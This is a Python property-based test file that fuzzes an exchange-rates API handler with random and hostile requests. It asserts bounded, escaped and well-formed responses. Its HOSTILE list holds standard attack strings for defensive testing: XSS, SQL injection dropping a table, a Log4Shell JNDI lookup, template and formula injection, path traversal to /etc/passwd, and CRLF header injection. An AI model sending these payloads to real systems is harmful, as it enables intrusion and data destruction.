"""Hostile and random requests: no 5xx, nothing reflected unescaped, no answer beyond Lambda's limit."""

import json
import re
import string
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from rates.serving import proxy, service
from rates.serving.proxy import Response
from rates.serving.reader import Reader
from rates.settings import load
from tests.support import NOW

STATUSES = {200, 204, 304, 404, 405, 422}
CSV_LINES = {
    "v1": re.compile(r"[a-z_,]+\r\n(?:[0-9A-Z.,-]+\r\n)+"),
    "v2": re.compile(r"[a-z_,]+\n(?:[0-9A-Z.,:-]+\n)*"),
}
MESSAGES = {
    "v1": re.compile(
        "not found|invalid (amount|date|group|value|on|revision)|bad currency pair|method not allowed"
        "|range too large: [a-z ,]+"
    ),
    "v2": re.compile(
        "not found|invalid (date|group|value|on|revision)|conflicting params|missing from|method not allowed"
        "|range too large: [a-z ,]+|(unknown parameter|invalid (expand|currency)): .*",
        re.DOTALL,
    ),
}
NAMES = ["base", "from", "symbols", "to", "amount", "group", "format"]
NAMES += ["quotes", "date", "on", "value", "providers", "expand", "scope", "revision"]
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE rates; --",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "=HYPERLINK(1)",
    "@SUM(1+1)",
    "../../etc/passwd",
    "a\r\nSet-Cookie: x=1",
    "%00",
    "\x00",
    "\ud800",
    "\u202eDSU",
    "\uff11\uff12\uff13",
    "\u0662\u0660\u0662\u0664-\u0660\u0661-\u0660\u0662",
    "\u0131\u017fK",
    "USD" * 2731,  # 8 KB
    "9" * 8192,
    "1e" + "9" * 8190,
    "0." + "0" * 8000 + "1",
    "," * 8192,
    "2024-01-01.." * 680,
]
PLAUSIBLE = [
    *("EUR", "USD", "usd", "IDR", "TRL", "XXX", "USD,GBP", "1", "1e12", "1e-9", "-1", "week", "month"),
    *("csv", ""),
]
PLAUSIBLE += [
    "last",
    "next",
    "before",
    "exact",
    "quarter",
    "all",
    "day",
    "providers",
    "ECB",
    "2024-05-13",
    "application/x-ndjson",
]
PLAUSIBLE += ["*", "text/csv", "text/html", "text/csv;q=0.5,*/*;q=x", "NaN", "1,5"]
DATES = st.builds(
    "{:04}-{:02}-{:02}".format, st.integers(0, 9999), st.integers(0, 13), st.integers(0, 32)
) | st.dates().map(str)
RANGES = st.builds("{}..{}".format, DATES, DATES | st.just(""))
PATHS = (
    st.sampled_from(["/", "/latest", "/current", "/changes", "/currencies", "/status", "/openapi.json", ""])
    | st.builds("{}/{}".format, st.sampled_from(["", "/changes", "/v1", "/v1/v1/changes"]), DATES | RANGES)
    | st.builds("/{}".format, st.sampled_from(HOSTILE) | st.text(max_size=30))
    | st.builds("/{}".format, st.sampled_from(HOSTILE).map(lambda text: quote(text, errors="replace")))
    | st.sampled_from(["/eurofxref-daily.xml", "/eurofxref-hist-90d.xml", "/eurofxref-hist.zip"])
    | st.sampled_from(["/rates", "/rates.csv", "/rates.json", "/currencies", "/providers", "/rate/EUR/USD"])
    | st.builds("/rate/{}/{}".format, st.sampled_from(HOSTILE), st.text(max_size=8))
    | st.builds("/currency/{}".format, st.sampled_from(HOSTILE) | st.text(max_size=8))
)
VALUES = (
    st.sampled_from(PLAUSIBLE)
    | st.sampled_from(HOSTILE)
    | st.text(max_size=20)
    | st.text(alphabet=string.digits + string.ascii_letters + "+-.eE, ", max_size=12)
)
PARAMETERS = st.dictionaries(
    st.sampled_from(NAMES) | st.text(max_size=8), st.lists(VALUES, max_size=3), max_size=4
)
HEADERS = st.dictionaries(
    st.sampled_from(["Accept", "accept", "If-None-Match", "Origin", "X-Forwarded-For", "Host"])
    | st.text(max_size=8),
    VALUES,
    max_size=3,
)
METHODS = st.sampled_from(["GET"] * 8 + ["HEAD", "OPTIONS", "POST", "<b>"])
EVENTS = st.fixed_dictionaries(
    {
        "httpMethod": METHODS,
        "path": PATHS,
        "multiValueQueryStringParameters": PARAMETERS | st.none(),
        "headers": HEADERS | st.none(),
        "requestContext": st.fixed_dictionaries(
            {"requestId": st.just("x"), "stage": st.sampled_from(["v1", "v2"])}
        ),
    }
)


def check(reader: Reader, event: dict[str, Any]) -> None:
    answer, _ = service.respond(proxy.request(event), reader, load(), NOW)
    assert answer.status in STATUSES
    assert len(json.dumps(answer.payload()).encode()) <= 5_500_000
    assert answer.headers["Access-Control-Allow-Origin"] == "*"
    assert all(re.fullmatch(r"[ -~]+", value) for value in answer.headers.values())
    check_body(event, answer)


def check_body(event: dict[str, Any], answer: Response) -> None:
    """Check that a body has only what the API itself writes, and names of the request only if escaped."""
    if event["httpMethod"] in ("HEAD", "OPTIONS") or answer.status == 304:
        assert answer.body == ""
        return
    version = event["requestContext"]["stage"]
    media_type = answer.headers["Content-Type"].split(";")[0]
    if media_type == "text/csv":
        assert CSV_LINES[version].fullmatch(answer.body)
    elif media_type == "text/html":
        assert answer.body.startswith("<!doctype html>")
        assert "alert(1)" not in answer.body
    elif media_type == "text/xml":
        assert re.fullmatch(r"[-\w\s<>?/:.='\"]+", answer.body)
    elif media_type == "application/x-ndjson":
        for line in answer.body.splitlines():
            check_row(json.loads(line))
    elif answer.status != 200:
        check_error(version, answer)
    elif version == "v1":
        assert re.fullmatch("[A-Z]{3}", json.loads(answer.body).get("base", "EUR"))
    else:
        content = json.loads(answer.body)
        for row in content if isinstance(content, list) else [content]:
            check_row(row)


def check_row(row: dict[str, Any]) -> None:
    """Check a row of v2, or one of its other objects."""
    assert all(re.fullmatch("[A-Z]{3}", row.get(name, "EUR")) for name in ("base", "quote", "iso_code"))


def check_error(version: str, answer: Response) -> None:
    error = json.loads(answer.body)
    assert MESSAGES[version].fullmatch(error["message"])
    assert set(error) <= {"status", "message", "detail"}
    assert max(len(error["message"]), len(error.get("detail", ""))) <= 200
    assert "detail" in error or answer.status != 404
    assert answer.body.isascii()
    assert not set("<>&'") & set(answer.body)


SETTINGS = settings(
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@pytest.mark.fault("A hostile request")
@pytest.mark.parametrize("count", [400, pytest.param(6000, marks=pytest.mark.full)])
def test_any_request_gets_an_answer_of_the_contract(memory_reader: Reader, count: int) -> None:
    @settings(SETTINGS, max_examples=count, derandomize=count == 400)
    @given(event=EVENTS)
    def run(event: dict[str, Any]) -> None:
        check(memory_reader, event)

    run()


VERSIONED_PATHS = [("v1", path) for path in ("/latest", "/2024-05-13..2024-05-17", "/changes", "/")]
VERSIONED_PATHS += [("v2", path) for path in ("/rates", "/rate/EUR", "/currencies", "/currency")]


@pytest.mark.fault("A hostile request")
@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
@pytest.mark.parametrize("name", [*NAMES, "unknown", "path", "accept", "if-none-match"])
def test_hostile_values_get_an_answer_of_the_contract(memory_reader: Reader, name: str, hostile: str) -> None:
    for version, path in VERSIONED_PATHS:
        event: dict[str, Any] = {"httpMethod": "GET", "path": path, "headers": {"Accept": "text/csv"}}
        event["requestContext"] = {"stage": version}
        if name == "path":
            event["path"] = f"{path}/{hostile}"
        elif name in ("accept", "if-none-match"):
            event["headers"] = {name: hostile}
        else:
            event["multiValueQueryStringParameters"] = {name: ["USD", hostile]}
        check(memory_reader, event)
